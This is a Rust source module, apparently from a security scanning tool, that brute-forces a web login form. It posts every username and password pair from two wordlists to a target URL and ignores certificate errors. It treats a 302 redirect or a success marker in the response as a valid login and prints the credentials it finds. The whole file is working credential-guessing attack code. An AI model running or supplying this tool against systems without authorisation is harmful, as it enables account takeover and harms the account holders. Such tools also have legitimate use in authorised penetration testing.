//! Standalone login brute-forcer.
//!
//! Independent of the scan pipeline: posts form-encoded credential pairs at
//! a login endpoint and reports which ones land. A hit is a response body
//! containing the success marker, or a redirect (302) since login forms
//! commonly bounce to a dashboard on success.

use std::path::Path;

use anyhow::{Context, Result};
use reqwest::header::CONTENT_TYPE;
use reqwest::StatusCode;

use crate::utils::read_lines;

pub async fn run(url: &str, userlist: &Path, passlist: &Path, success_marker: &str) -> Result<()> {
    let users = read_lines(userlist).context("failed to read username list")?;
    let passwords = read_lines(passlist).context("failed to read password list")?;

    let client = reqwest::Client::builder()
        .use_rustls_tls()
        .danger_accept_invalid_certs(true)
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .context("failed to build client")?;

    let mut found: Vec<(String, String)> = Vec::new();

    for user in &users {
        for password in &passwords {
            let body = format!(
                "username={}&password={}",
                urlencoding::encode(user),
                urlencoding::encode(password)
            );
            println!("[TRY] {user}:{password}");

            let response = client
                .post(url)
                .header(CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(body)
                .send()
                .await;

            match response {
                Ok(r) => {
                    let status = r.status();
                    let text = r.text().await.unwrap_or_default();
                    if status == StatusCode::FOUND || text.contains(success_marker) {
                        println!("[+] Valid credentials: {user}:{password}");
                        found.push((user.clone(), password.clone()));
                    }
                }
                Err(e) => {
                    tracing::warn!(user = %user, error = %e, "request failed");
                }
            }
        }
    }

    println!();
    if found.is_empty() {
        println!("No credentials found");
    } else {
        println!("Credentials found:");
        for (user, password) in &found {
            println!("  {user}:{password}");
        }
    }
    Ok(())
}
